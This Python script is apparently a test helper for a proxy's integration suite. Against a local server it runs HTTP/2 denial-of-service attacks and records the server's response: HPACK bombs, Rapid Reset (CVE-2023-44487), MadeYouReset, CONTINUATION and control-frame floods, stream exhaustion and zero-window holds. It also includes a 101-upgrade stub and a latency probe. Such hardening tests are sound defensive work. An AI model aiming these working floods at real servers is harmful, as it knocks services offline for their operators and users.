#!/usr/bin/env python3
# h2attack.py — hostile HTTP/2 clients and a latency probe for
# tests/integ/proxy-h2.sh (frames from h2raw.py; standard library only).
#
#   h2attack.py PORT SNI AUTHORITY CA MODE N [SECONDS]
#     hpack     a 4000-byte field put in the dynamic table, then a
#               request referencing it N times (an HPACK bomb)
#     biglist   one request with N 100-byte literal fields
#     settings  N SETTINGS frames, their ACKs left unread while sending
#     winupd    N WINDOW_UPDATE frames (increment 1) on the connection
#     streams   N requests of /sse?count=1000&interval=100 at once
#               (open for long), without waiting for answers
#     zerohold  a window of 0 and a GET of /bytes?n=N; then reads
#               nothing and waits (up to 120 s) for the server to act
#     reset     N streams opened and reset at once (CVE-2023-44487)
#     madereset N POSTs whose DATA runs past their content-length: the
#               server must reset each stream ("MadeYouReset")
#     cont      one HEADERS and N CONTINUATION frames (a 2024 flood)
#     ping      N PINGs, their answers left unread while sending
#     hpackrep  N requests on one connection, each an HPACK bomb (a 4000-
#               byte field in the dynamic table referenced 1000 times)
#     hold      a window of 0 and GETs of /bytes?n=4294967296 on N
#               streams; then silence (10 s) while the test measures
#   (reset, madereset, cont, ping and hpackrep wait for the GOAWAY:
#   answers on the streams before it are not an outcome)
#   Prints what the server did to the attacker, one line: "goaway CODE",
#   "rst CODE" (the first stream reset), "headers" (a response began;
#   "headers 431" when its status is 431),
#   "refused K" (streams: how many got REFUSED_STREAM), "eof",
#   "timeout"; then "after S" (seconds until then). With SECONDS the
#   attack is repeated on new connections for that long (the first
#   outcome is printed, and "runs R").
#
#   h2attack.py PORT SNI AUTHORITY CA SEQ N
#     big431      one GET /healthz with N 100-byte fields (over
#                 h2_header_list), then a GET /healthz on stream 3
#     big431open  the same as a POST /upload whose body stays open (its
#                 HEADERS without END_STREAM, one DATA frame): once
#                 answered, more DATA on it and then stream 3
#     bomb431open the same with an HPACK bomb (a 4000-byte field in the
#                 dynamic table referenced N times)
#     upgrade     a GET /ws with Connection and Upgrade fields (RFC 9113
#                 8.2.2: malformed), then stream 3
#   Prints what streams 1 and 3 got, in order, on one line: "s1 431",
#   "s1 end" (END_STREAM), "s1 rst CODE", "s3 200", "s3 end", "goaway
#   CODE", "eof", "timeout" (10 s), joined by ", ".
#
#   h2attack.py up101 PORT
#     a guest that answers every request 101 Switching Protocols and
#     echoes what follows; prints "listening on 127.0.0.1:PORT", then
#     "request LINE" and "closed" for each connection.
#
#   h2attack.py PORT SNI HOST CA lat N PATH
#     N sequential HTTP/1.1 GETs of PATH on one keep-alive TLS
#     connection; prints "p50 MS p99 MS".
# SPDX-License-Identifier: GPL-2.0-or-later
import os
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import threading  # noqa: E402
from h2raw import (PREFACE, Reader, settings, window_update, headers,  # noqa: E402
                   req_block, lit, indexed, data, status_of, rst, ping,
                   frame, GOAWAY, RST_STREAM, HEADERS, DATA, SETTINGS,
                   CONTINUATION, END_STREAM, ACK)


def connect(port, sni, ca, alpn):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols([alpn])
    s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", int(port))),
                        server_hostname=sni)
    return s


def send_all(s, chunks):
    try:
        for i in range(0, len(chunks), 64):
            s.sendall(b"".join(chunks[i:i + 64]))
    except OSError:
        pass


def outcome(s, wait, count_refused=0, goaway_only=False):
    """What the server did: the first GOAWAY, RST_STREAM or HEADERS
    (only GOAWAY with goaway_only)."""
    s.settimeout(wait)
    r = Reader(s)
    refused = 0
    end = time.time() + wait
    try:
        while time.time() < end:
            f = r.next()
            if f is None:
                return "eof"
            ft, fl, sid, p = f
            if ft == GOAWAY:
                return "goaway %d" % struct.unpack(">I", p[4:8])[0]
            if goaway_only:
                continue
            if ft == RST_STREAM:
                code = struct.unpack(">I", p[:4])[0]
                if count_refused and code == 7:
                    refused += 1
                    continue
                if not count_refused:
                    return "rst %d" % code
            if ft == HEADERS and sid > 0 and not count_refused:
                # nghttp2 sends a status outside the static table as a
                # literal, not Huffman-coded when that is no shorter
                # (3 digits): "431" shows in the block as is
                return "headers 431" if b"\x03431" in p else "headers"
    except socket.timeout:
        pass
    except OSError:
        return "eof"
    if count_refused:
        return "refused %d" % refused
    return "timeout"


def attack(port, sni, auth, ca, mode, n):
    s = connect(port, sni, ca, "h2")
    if s.selected_alpn_protocol() != "h2":
        return "no h2"
    out = [PREFACE + settings([(4, 0)] if mode in ("zerohold", "hold") else
                              [(4, 1 << 30)] if mode == "streams" else [])]
    if mode == "streams":	# windows open: only the stream limit counts
        out.append(window_update(0, 1 << 30))
    wait = 10
    if mode == "hpack":
        out.append(headers(1, lit(":method", "GET") + lit(":scheme", "https") +
                   lit(":path", "/healthz") + lit(":authority", auth) +
                   lit("x-bomb", "b" * 4000, index=True) + indexed(62) * n))
    elif mode == "biglist":
        out.append(headers(1, req_block("GET", "/healthz", auth,
                   [("x-f%d" % i, "v" * 100) for i in range(n)])))
    elif mode == "settings":
        out += [settings([(3, 100)])] * n
    elif mode == "winupd":
        out += [window_update(0, 1)] * n
    elif mode == "streams":
        out += [headers(2 * i + 1, req_block("GET", "/sse?count=1000&interval=100",
                auth)) for i in range(n)]
        send_all(s, out)
        res = outcome(s, 3, count_refused=1)
        s.close()
        return res
    elif mode == "reset":
        for i in range(n):
            sid = 2 * i + 1
            out.append(headers(sid, req_block("GET", "/healthz", auth)) +
                       rst(sid, 8))
    elif mode == "madereset":
        for i in range(n):
            sid = 2 * i + 1
            out.append(headers(sid, req_block("POST", "/healthz", auth,
                                              [("content-length", "1")]),
                               end_stream=False) +
                       data(sid, b"ab", end_stream=True))
    elif mode == "cont":
        out.append(headers(1, req_block("GET", "/healthz", auth),
                           end_headers=False))
        out += [frame(CONTINUATION, 0, 1, lit("x-a", "b"))] * n
    elif mode == "ping":
        out += [ping(struct.pack(">Q", i)) for i in range(n)]
    elif mode == "hpackrep":
        for i in range(n):
            blk = req_block("GET", "/healthz", auth) + indexed(62) * 1000
            if i == 0:
                blk = req_block("GET", "/healthz", auth) + \
                    lit("x-bomb", "b" * 4000, index=True) + indexed(62) * 999
            out.append(headers(2 * i + 1, blk))
    elif mode == "hold":
        out += [headers(2 * i + 1, req_block("GET", "/bytes?n=4294967296", auth))
                for i in range(n)]
        send_all(s, out)
        time.sleep(10)
        s.close()
        return "held"
    elif mode == "zerohold":
        out.append(headers(1, req_block("GET", "/bytes?n=%d" % n, auth)))
        wait = 120
    send_all(s, out)
    res = outcome(s, wait, goaway_only=mode in ("reset", "madereset", "cont",
                                                "ping", "hpackrep"))
    if mode == "zerohold" and res == "headers":
        res = outcome(s, wait)	# what comes after the head
    s.close()
    return res


def sequence(port, sni, auth, ca, mode, n):
    """Streams 1 and 3 on one connection: what each got, in order."""
    s = connect(port, sni, ca, "h2")
    if s.selected_alpn_protocol() != "h2":
        return "no h2"
    # a header table of 0: status_of() can read the server's answers
    out = [PREFACE + settings([(1, 0)])]
    is_open = mode.endswith("open")
    method, path = ("POST", "/upload") if is_open else ("GET", "/healthz")
    if mode.startswith("bomb"):
        blk = req_block(method, path, auth) + \
            lit("x-bomb", "b" * 4000, index=True) + indexed(62) * n
    elif mode == "upgrade":
        blk = req_block("GET", "/ws", auth, [
            ("connection", "upgrade"), ("upgrade", "websocket"),
            ("sec-websocket-version", "13"),
            ("sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ==")])
    else:
        blk = req_block(method, path, auth,
                        [("x-f%d" % i, "v" * 100) for i in range(n)])
    out.append(headers(1, blk, end_stream=not is_open))
    if is_open:
        out.append(data(1, b"x" * 1000))
    send_all(s, out)
    s.settimeout(10)
    r = Reader(s)
    ev = []
    sent3 = False
    end = time.time() + 10
    try:
        while time.time() < end:
            f = r.next()
            if f is None:
                ev.append("eof")
                break
            ft, fl, sid, p = f
            if ft == SETTINGS and not fl & ACK:
                s.sendall(settings(ack=True))
            elif ft == GOAWAY:
                ev.append("goaway %d" % struct.unpack(">I", p[4:8])[0])
                break
            elif ft == RST_STREAM:
                ev.append("s%d rst %d" % (sid, struct.unpack(">I", p[:4])[0]))
            elif ft == HEADERS:
                ev.append("s%d %s" % (sid, status_of(p)))
            if ft in (HEADERS, DATA) and fl & END_STREAM:
                ev.append("s%d end" % sid)
            last = ev[-1] if ev else ""
            if last == "s3 end" or last.startswith("s3 rst"):
                break
            if not sent3 and (last == "s1 end" or last.startswith("s1 rst")):
                sent3 = True
                more = [headers(3, req_block("GET", "/healthz", auth))]
                if is_open:	# DATA after the answer: thrown away
                    more.insert(0, data(1, b"y" * 1000, end_stream=True))
                s.sendall(b"".join(more))
        else:
            ev.append("timeout")
    except socket.timeout:
        ev.append("timeout")
    except OSError:
        ev.append("eof")
    s.close()
    return ", ".join(ev)


def upstream101(port):
    """A guest that switches protocols on any request."""
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", int(port)))
    ls.listen(64)
    print("listening on 127.0.0.1:%d" % ls.getsockname()[1], flush=True)

    def serve(c):
        buf = b""
        c.settimeout(60)
        try:
            while b"\r\n\r\n" not in buf:
                d = c.recv(65536)
                if not d:
                    return
                buf += d
            print("request %s" % buf.split(b"\r\n")[0].decode("latin-1"),
                  flush=True)
            c.sendall(b"HTTP/1.1 101 Switching Protocols\r\n"
                      b"Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
            while True:
                d = c.recv(65536)
                if not d:
                    break
                c.sendall(d)
        except OSError:
            pass
        finally:
            c.close()
            print("closed", flush=True)

    while True:
        c, _ = ls.accept()
        threading.Thread(target=serve, args=(c,), daemon=True).start()


def latency(port, sni, host, ca, n, path):
    s = connect(port, sni, ca, "http/1.1")
    s.settimeout(10)
    req = ("GET %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (path, host)).encode()
    ts = []
    buf = b""
    for _ in range(n):
        t0 = time.monotonic()
        s.sendall(req)
        while True:
            h = buf.find(b"\r\n\r\n")
            if h >= 0:
                head = buf[:h].decode("latin-1").lower()
                cl = 0
                for line in head.split("\r\n"):
                    if line.startswith("content-length:"):
                        cl = int(line.split(":", 1)[1])
                if len(buf) >= h + 4 + cl:
                    buf = buf[h + 4 + cl:]
                    break
            d = s.recv(65536)
            if not d:
                raise SystemExit("lat: connection closed")
            buf += d
        ts.append((time.monotonic() - t0) * 1000)
    ts.sort()
    print("p50 %.1f p99 %.1f" % (ts[len(ts) // 2], ts[min(len(ts) - 1, int(len(ts) * 0.99))]))


def main():
    if sys.argv[1] == "up101":
        upstream101(sys.argv[2])
        return
    port, sni, auth, ca, mode, n = sys.argv[1:7]
    if mode in ("big431", "big431open", "bomb431open", "upgrade"):
        print(sequence(port, sni, auth, ca, mode, int(n)))
        return
    if mode == "lat":
        latency(port, sni, auth, ca, int(n), sys.argv[7])
        return
    secs = float(sys.argv[7]) if len(sys.argv) > 7 else 0
    t0 = time.time()
    first = attack(port, sni, auth, ca, mode, int(n))
    print(first)
    print("after %.1f" % (time.time() - t0))
    sys.stdout.flush()
    runs = 1
    while time.time() - t0 < secs:
        try:
            attack(port, sni, auth, ca, mode, int(n))
        except OSError:
            pass
        runs += 1
    if secs:
        print("runs %d" % runs)


main()
